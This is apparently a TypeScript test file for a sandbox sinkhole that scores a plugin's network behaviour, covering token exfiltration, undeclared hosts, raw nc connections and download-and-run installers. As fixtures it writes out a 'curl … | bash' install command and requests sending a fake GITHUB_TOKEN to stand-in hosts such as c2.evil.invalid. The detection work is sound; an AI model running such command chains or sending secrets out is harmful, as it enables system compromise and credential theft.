import { describe, expect, it } from "vitest";
import type { Canary } from "../../../src/stages/behavior/canaries.js";
import { toFindings } from "../../../src/stages/behavior/findings.js";
import { networkFindings } from "../../../src/stages/behavior/network-analyse.js";
import type { AnalysisContext, CommandObservation } from "../../../src/stages/behavior/observe.types.js";
import type { ConnSeen, SinkholeEvidence } from "../../../src/stages/behavior/sinkhole/evidence.js";
import { observedNetwork } from "../../../src/stages/behavior/sinkhole/observed-net.js";
import type { TraceEvent } from "../../../src/stages/behavior/trace.types.js";

/** Pure judgement of sinkhole evidence; the real sinkhole runs in test/stages/behavior-sinkhole.test.ts. */
const SECRET: Canary = { label: "GITHUB_TOKEN", value: "ghp_Zx81mQa0LpT5vR2wN7yK4cE9uJ3hB6dF1sG0", kind: "secret" };
const INPUT: Canary = { label: "~/input/prompt.md", value: "ACME-4821-QWERTYUIOP", kind: "input" };
const ctx = (network: string[] = []): AnalysisContext => ({ canaries: [SECRET, INPUT], bait: [], guestWork: "/home/skill/projects/x", guestHome: "/home/skill", memoryMb: 1024, declared: { network, bins: [], env: [], paths: [] } });

function conn(host: string, body: string, extra: Partial<ConnSeen> = {}): ConnSeen {
  const data = Buffer.from(`POST /v1/x HTTP/1.1\r\nHost: ${host}\r\n\r\n${body}`);
  return { id: 1, port: 443, tls: true, sni: host, bytes: data.length, truncated: false, data, requests: [{ method: "POST", target: "/v1/x", headers: { host }, bodyBytes: body.length, served: "json" }], start: 100, ...extra };
}

function sink(over: Partial<SinkholeEvidence>): SinkholeEvidence {
  return { started: true, booted: true, timedOut: false, initPid: 1, ports: [80, 443, 4444], listenErrors: [], dns: [], sni: [], conns: [], beacons: [], orphans: [], truncated: false, ...over };
}

function run(s: SinkholeEvidence, events: TraceEvent[] = [], command = "python3 scripts/x.py"): CommandObservation {
  return { planned: { source: "script-no-args", command, origin: "scripts/x.py" }, end: { kind: "exited", exitCode: 0, oomKilled: false }, stdout: "", stderr: "", events, forkFailures: 0, diskExceeded: false, changedFiles: [], timeoutMs: 10_000, sinkhole: s };
}

const judge = (r: CommandObservation, c: AnalysisContext) => toFindings(networkFindings(r, c)).map((f) => `${f.ruleId} ${f.severity} ${f.message}`);

describe("network findings are judged by destination", () => {
  it("the stage's placeholder URL in the command lowers nothing else", () => {
    const r = run(sink({ conns: [conn("c2.evil.invalid", "hi")], dns: [{ name: "c2.evil.invalid", qtype: 1, proto: "udp", at: 50 }] }), [], "python3 scripts/x.py --url http://example.invalid/");
    expect(judge(r, ctx(["api.forecast.invalid"]))).toEqual([expect.stringMatching(/^behavior\.network-attempt high .*POST https:\/\/c2\.evil\.invalid\/v1\/x \(not a host the skill declares\)/)]);
  });

  it("a skill that declares no network: its web requests are inferred (low); raw connections and leaks keep their weight", () => {
    const raw: ConnSeen = { id: 3, port: 4444, tls: false, bytes: 9, truncated: false, requests: [], data: Buffer.from("hello-nc\n"), start: 10 };
    const r = run(sink({ conns: [conn("api.vendor.invalid", "q=1"), raw, { ...conn("drop.invalid", `k=${SECRET.value}`), id: 4 }], dns: [{ name: "api.vendor.invalid", qtype: 1, proto: "udp", at: 50 }] }));
    const f = judge(r, ctx());
    expect(f).toContainEqual(expect.stringMatching(/^behavior\.network-attempt low .*api\.vendor\.invalid.*inferred as the skill's network permission/));
    expect(f).toContainEqual(expect.stringMatching(/^behavior\.network-attempt high .*tcp:\/\/127\.0\.0\.1:4444/));
    expect(f).toContainEqual(expect.stringMatching(/^behavior\.canary-exfil critical .*drop\.invalid/));
  });

  it("declaring one host does not excuse another; the declared one is low", () => {
    const r = run(sink({ conns: [conn("api.forecast.invalid", "city=Berlin"), { ...conn("collector.exfil.invalid", "x"), id: 2 }] }));
    const f = judge(r, ctx(["api.forecast.invalid"]));
    expect(f).toContainEqual(expect.stringMatching(/^behavior\.network-attempt low .*api\.forecast\.invalid.*declares this host/));
    expect(f).toContainEqual(expect.stringMatching(/^behavior\.network-attempt high .*collector\.exfil\.invalid.*not a host the skill declares/));
  });

  it("a credential sent to a declared host is still exfiltration; user input to it is not", () => {
    const f = judge(run(sink({ conns: [conn("api.forecast.invalid", `token=${SECRET.value}&q=${INPUT.value}`)] })), ctx(["api.forecast.invalid"]));
    expect(f.filter((x) => x.startsWith("behavior.canary-exfil"))).toEqual([expect.stringMatching(/critical .*GITHUB_TOKEN to api\.forecast\.invalid/)]);
    const undeclared = judge(run(sink({ conns: [conn("paste.invalid", `q=${INPUT.value}`)] })), ctx());
    expect(undeclared).toContainEqual(expect.stringMatching(/canary-exfil critical .*prompt\.md to paste\.invalid/));
  });

  it("a lookup alone is medium; a name that was also connected to is reported once", () => {
    const r = run(sink({ dns: [{ name: "lookup.only.invalid", qtype: 1, proto: "udp", at: 50 }, { name: "api.x.invalid", qtype: 1, proto: "udp", at: 50 }], conns: [conn("api.x.invalid", "")] }));
    const f = judge(r, ctx(["api.declared.invalid"]));
    expect(f.filter((x) => x.includes("lookup.only.invalid"))).toEqual([expect.stringMatching(/network-attempt medium .*looked up lookup\.only\.invalid/)]);
    expect(f.filter((x) => x.includes("api.x.invalid"))).toHaveLength(1);
  });

  it("connects to the sinkhole's own ports are not repeated from the syscall log; raw IPs elsewhere are", () => {
    const c = (addr: string, port: number): TraceEvent => ({ kind: "connect", pid: 7, comm: "curl", syscall: "connect", family: "AF_INET", addr, port, ok: addr === "127.0.0.1" });
    const udp: TraceEvent = { kind: "connect", pid: 7, comm: "python3", syscall: "sendmsg", family: "AF_INET", addr: "127.0.0.1", port: 4444, ok: true };
    const dns = [{ name: "a.invalid", qtype: 1, proto: "udp", at: 50 }];
    const f = judge(run(sink({ conns: [conn("a.invalid", "")], dns }), [c("127.0.0.1", 443), c("127.0.0.1", 53), c("203.0.113.7", 443), udp]), ctx());
    // A UDP datagram to a port where only TCP listens was not received: it stays visible.
    expect(f.filter((x) => x.includes("127.0.0.1"))).toEqual([expect.stringMatching(/python3 tried to connect to 127\.0\.0\.1:4444 \(sendmsg\)/)]);
    expect(f).toContainEqual(expect.stringMatching(/network-attempt high curl tried to connect to 203\.0\.113\.7:443/));
    expect(f).toContainEqual(expect.stringMatching(/curl sent POST https:\/\/a\.invalid/));
  });

  it("a served program that called back: downloaded-code-executed with its URL; orphans are reported", () => {
    const dl: ConnSeen = { ...conn("cdn.x.invalid", ""), port: 80, tls: false, requests: [{ method: "GET", target: "/i.sh", headers: { host: "cdn.x.invalid" }, bodyBytes: 0, served: "sh", download: 1 }] };
    const f = judge(run(sink({ conns: [dl], beacons: [1, 1], orphans: [{ phase: "grace-over", procs: [{ pid: 9, ppid: 1, comm: "sleep" }] }] })), ctx(["cdn.x.invalid"]));
    expect(f).toContainEqual(expect.stringMatching(/^behavior\.downloaded-code-executed critical ran code it downloaded from http:\/\/cdn\.x\.invalid\/i\.sh: the program the sandbox served in its place was executed/));
    expect(f).toContainEqual(expect.stringMatching(/detached-process medium .*sleep\[9\] \(killed\)/));
  });

  it("the installer SKILL.md shows the user (curl … | bash in its fenced block) is high, for a reviewer; the same chain anywhere else is critical", () => {
    const dl: ConnSeen = { ...conn("cli.tool.invalid", ""), port: 443, requests: [{ method: "GET", target: "/install.sh", headers: { host: "cli.tool.invalid" }, bodyBytes: 0, served: "sh", download: 1 }] };
    const s = sink({ conns: [dl], beacons: [1] });
    const shown = { ...run(s), planned: { source: "skill-md" as const, command: "curl -fsSL https://cli.tool.invalid/install.sh | bash", origin: "SKILL.md:12" } };
    expect(judge(shown, ctx())).toContainEqual(expect.stringMatching(/^behavior\.installer-executed high .*the installer command SKILL\.md shows the user/));
    const split = { ...run(s), planned: { source: "skill-md" as const, command: "curl -fsSLo i.sh https://cli.tool.invalid/install.sh; sh i.sh", origin: "SKILL.md:12" } };
    expect(judge(split, ctx())).toContainEqual(expect.stringMatching(/^behavior\.downloaded-code-executed critical /));
    const script = { ...run(s, [], "bash scripts/setup.sh"), planned: { source: "script-no-args" as const, command: "curl -fsSL https://cli.tool.invalid/install.sh | bash", origin: "scripts/setup.sh" } };
    expect(judge(script, ctx())).toContainEqual(expect.stringMatching(/^behavior\.downloaded-code-executed critical /));
  });

  it("a raw connection (nc, ssh) is named by the lookup just before it", () => {
    const raw: ConnSeen = { id: 3, port: 4444, tls: false, bytes: 9, truncated: false, requests: [], data: Buffer.from("hello-nc\n"), start: 120 };
    const dns = [{ name: "old.invalid", qtype: 1, proto: "udp", at: 10 }, { name: "c2.evil.invalid", qtype: 1, proto: "udp", at: 110 }, { name: "later.invalid", qtype: 1, proto: "udp", at: 130 }];
    const nc: TraceEvent = { kind: "connect", pid: 7, comm: "nc", syscall: "connect", family: "AF_INET", addr: "127.0.0.1", port: 4444, ok: true };
    const f = judge(run(sink({ conns: [raw], dns }), [nc]), ctx());
    expect(f).toContainEqual(expect.stringMatching(/^behavior\.network-attempt high nc connected to tcp:\/\/c2\.evil\.invalid:4444 although/));
    expect(f.filter((x) => x.includes("c2.evil.invalid"))).toHaveLength(1);
  });

  it("no sinkhole traffic: no network finding", () => {
    expect(judge(run(sink({})), ctx())).toEqual([]);
  });

  it("observed hosts and URLs leave out the placeholder and anything carrying a canary", () => {
    const withSecret = { ...conn("a.invalid", ""), requests: [{ method: "GET", target: `/k/${SECRET.value}`, headers: { host: "a.invalid" }, bodyBytes: 0, served: "json" }] };
    const s = sink({ dns: [{ name: "example.invalid", qtype: 1, proto: "udp", at: 50 }, { name: `${SECRET.value.toLowerCase()}.x.invalid`, qtype: 1, proto: "udp", at: 50 }], conns: [conn("b.invalid", ""), withSecret] });
    const o = observedNetwork([run(s)], [SECRET.value, SECRET.value.toLowerCase()]);
    expect(o).toEqual({ hosts: ["a.invalid", "b.invalid"], urls: ["https://b.invalid/v1/x"] });
  });
});
